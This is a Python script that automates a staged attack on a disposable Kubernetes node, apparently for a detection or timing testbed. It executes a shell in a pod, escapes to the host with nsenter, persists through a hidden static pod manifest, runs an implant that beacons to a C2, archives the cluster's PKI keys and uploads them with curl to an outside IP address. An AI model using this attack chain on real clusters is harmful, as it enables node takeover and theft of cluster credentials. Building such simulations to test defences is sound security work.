#!/usr/bin/python3
"""Performs the attack on the disposable node, stage by stage; run.sh prepares the node and starts this on it.

    attack.py DIR --runtime kubelet|ctr [--gap SECONDS] [--gap-before STAGE=SECONDS]... [--interval SECONDS] [--marks-fd FD]

It is the attacker: at a terminal first, and through the C2 once the implant runs. Each stage begins on a condition that is
waited for, so that a slow machine makes the story longer and not another one.
"""

import argparse
import os
import pathlib
import pty
import re
import select
import subprocess
import sys
import time
from typing import Callable, NoReturn

BEATS = 6  # before the implant gets its first task
LEAST_BYTES = 200_000  # of the upload
PATIENCE = 120.0  # seconds that any condition may take beyond the delays that were asked for
ESCAPES = re.compile(rb"\x1b\[[0-9;]*[A-Za-z]")
STAGES = {
    "foothold": "a shell with a terminal in the pod web",
    "escape": "nsenter from the pod into the node's namespaces",
    "persistence": "a static pod manifest in an invisible namespace",
    "hidden-container": "the pod hack starts, of which no API server knows",
    "execution": "it fetches code and runs it in memory",
    "command-and-control": "the implant calls home",
    "collection": "the cluster's keys are archived",
    "exfiltration": "the archive is sent to a peer",
}


def fail(text: str) -> NoReturn:
    sys.exit(f"the attack failed: {text}")


def boottime() -> float:
    return time.clock_gettime(time.CLOCK_BOOTTIME)


def wait_for(what: str, condition: Callable[[], object], extra: float = 0.0) -> object:
    """The condition's first true value."""
    until = time.monotonic() + PATIENCE + extra
    while not (value := condition()):
        if time.monotonic() > until:
            fail(f"waited too long for {what}")
        time.sleep(0.05)
    return value


class Story:
    """The gaps between the stages, and the marks where each begins."""

    def __init__(self, options: argparse.Namespace) -> None:
        self.options = options
        self.next = 1

    def gap(self, stage: str) -> float:
        between = stage not in ("foothold", "end")
        return self.options.gaps.get(stage, self.options.gap if between else 0.0)

    def begin(self, stage: str) -> None:
        print(f"[{self.next}/{len(STAGES)}] {stage}: {STAGES[stage]}", flush=True)
        self.next += 1
        self.mark(stage)

    def mark(self, stage: str) -> None:
        if self.options.marks_fd is not None:
            os.write(self.options.marks_fd, f"{stage} {time.clock_gettime_ns(time.CLOCK_BOOTTIME)}\n".encode())


class Terminal:
    """The attacker's terminal: lines are typed one by one, each after the prompt for it has come."""

    def __init__(self, command: list[str]) -> None:
        self.output = b""
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.execvp(command[0], command)
        self.prompt(b"# ", 0)

    def prompt(self, prompt: bytes, since: int) -> None:
        until = time.monotonic() + PATIENCE
        # The echo of what was typed may end like a prompt too, but has no line end before that.
        while not (self.output[since:].endswith(prompt) and (since == 0 or b"\n" in self.output[since:])):
            if time.monotonic() > until or not self.read(0.5):
                fail(f"the terminal stopped at: {self.output[-200:]!r}")

    def read(self, seconds: float) -> bool:
        """Takes what the terminal shows; false at its end."""
        if select.select([self.fd], [], [], seconds)[0]:
            try:
                shown = os.read(self.fd, 4096)
            except OSError:  # EIO: the other end is closed
                return False
            # Escape sequences are for the eye; busybox also asks for the cursor's position, and does without an answer.
            self.output = ESCAPES.sub(b"", self.output + shown)
        return True

    def type(self, line: str, prompt: bytes = b"# ", pause: float = 0.3) -> None:
        print(f"    {line}", flush=True)
        time.sleep(pause)  # a person thinks and types; nothing depends on it
        since = len(self.output)
        os.write(self.fd, line.encode() + b"\n")
        self.prompt(prompt, since)

    def leave(self, shells: int) -> None:
        for _ in range(shells - 1):
            self.type("exit")
        os.write(self.fd, b"exit\n")
        until = time.monotonic() + PATIENCE
        while self.read(0.5):
            if time.monotonic() > until:
                fail("the attacker's shell does not end")
        os.waitpid(self.pid, 0)


class C2:
    """The attacker's side of the implant."""

    def __init__(self, folder: pathlib.Path) -> None:
        self.folder = folder

    def log(self, what: str) -> list[list[str]]:
        try:
            lines = (self.folder / "c2.log").read_text().splitlines()
        except FileNotFoundError:
            return []
        return [words for words in map(str.split, lines) if words[0] == what]

    def run(self, task: str, extra: float) -> None:
        """Has the implant run a command line, and waits until it has reported its success."""
        print(f"    {task}", flush=True)
        reports = [beat for beat in self.log("beat") if len(beat) > 2]
        (self.folder / "task.new").write_text(task)
        (self.folder / "task.new").rename(self.folder / "task")

        def report() -> list[str] | None:
            now = [beat for beat in self.log("beat") if len(beat) > 2]
            return now[-1] if len(now) > len(reports) else None

        beat = wait_for("the implant's report", report, 2 * extra)
        if beat[2] != "0":
            fail(f"the task ended with status {beat[2]}: {task}")


def container(pod: str) -> str:
    """The id of the running container of a pod, or nothing."""
    condition = f'labels."io.kubernetes.pod.name"=={pod}-node1,labels."io.cri-containerd.kind"==container'
    listed = subprocess.run(["ctr", "-n", "k8s.io", "containers", "ls", "-q", condition], capture_output=True, text=True).stdout.split()
    return listed[0] if len(listed) == 1 else ""


def started(args: list[str]) -> float | None:
    """When a process in a pod with these arguments started, in seconds of boottime."""
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            if (process / "cmdline").read_bytes().decode(errors="replace").split("\0")[:-1] == args:
                if "kubepods" in (process / "cgroup").read_text():
                    ticks = int((process / "stat").read_text().rpartition(") ")[2].split()[19])
                    return ticks / os.sysconf("SC_CLK_TCK")
        except OSError:
            continue  # it has ended meanwhile
    return None


def sleep_until(time_of_boot: float) -> None:
    time.sleep(max(0.0, time_of_boot - boottime()))


def attack(folder: pathlib.Path, options: argparse.Namespace) -> None:
    story, c2 = Story(options), C2(folder)

    web = wait_for("the pod web", lambda: started(["httpd", "-f", "-p", "8080", "-h", "/tmp"]) and container("web"))
    time.sleep(story.gap("foothold"))
    story.begin("foothold")
    terminal = Terminal(["ctr", "-n", "k8s.io", "task", "exec", "-t", "--exec-id", "shell", web, "sh"])
    for line in ("id", "hostname", "ps"):
        terminal.type(line)

    time.sleep(story.gap("escape"))
    story.begin("escape")
    for line in ("nsenter -t 1 -m -u -i -n -p sh", "hostname", "id", "ls /etc/kubernetes"):
        terminal.type(line)

    time.sleep(story.gap("persistence"))
    dormant = f"{story.gap('execution'):g}"
    manifest = (folder / "hack.yaml").read_text().replace("@DORMANT@", dormant).splitlines()
    story.begin("persistence")
    terminal.type("cat > /etc/kubernetes/manifests/hack.yaml <<EOF", b"> ")
    for line in manifest:
        terminal.type(line, b"> ", 0.05)  # pasted
    story.begin("hidden-container")
    terminal.type("EOF")
    awake = wait_for("the hidden pod", lambda: started(["sleep", dormant])) + story.gap("execution")
    print(f"    started by {options.runtime}: {container('hack')[:12]}", flush=True)

    # The mark stands in the quiet before: while the pod sleeps, and before the implant's first beat.
    sleep_until(awake - min(0.3, story.gap("execution") / 2))
    story.begin("execution")
    served = int(wait_for("the implant to be fetched", lambda: c2.log("served"))[0][1]) / 1e9
    sleep_until(served + options.interval / 2)
    story.begin("command-and-control")
    wait_for("the beacons", lambda: len(c2.log("beat")) >= BEATS, BEATS * options.interval)

    if "collection" in options.gaps:  # else the beacons were gap enough
        time.sleep(story.gap("collection"))
    story.begin("collection")
    c2.run("tar czf /tmp/pki.tgz -C /host pki", options.interval)

    time.sleep(story.gap("exfiltration"))
    story.begin("exfiltration")
    c2.run("curl -s -T /tmp/pki.tgz http://198.51.100.23:8000/", options.interval)
    received = int((folder / "drop.log").read_text().split()[-1])
    if received < LEAST_BYTES:
        fail(f"the peer received {received} bytes only")

    time.sleep(story.gap("end"))
    story.mark("end")
    terminal.leave(shells=2)
    print(f"the story is complete: second container by {options.runtime}, {len(c2.log('beat'))} beacons, {received} bytes sent out")


def gap_before(text: str) -> tuple[str, float]:
    stage, _, seconds = text.partition("=")
    if stage not in STAGES and stage != "end":
        raise argparse.ArgumentTypeError(f"{stage} is none of {', '.join(STAGES)}, end")
    return stage, float(seconds)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=pathlib.Path)
    parser.add_argument("--runtime", choices=("kubelet", "ctr"), required=True)
    parser.add_argument("--gap", type=float, default=5.0)
    parser.add_argument("--gap-before", type=gap_before, action="append", default=[], metavar="STAGE=SECONDS")
    parser.add_argument("--interval", type=float, default=3.0)
    parser.add_argument("--marks-fd", type=int)
    options = parser.parse_args()
    options.gaps = dict(options.gap_before)
    attack(options.folder, options)


main()
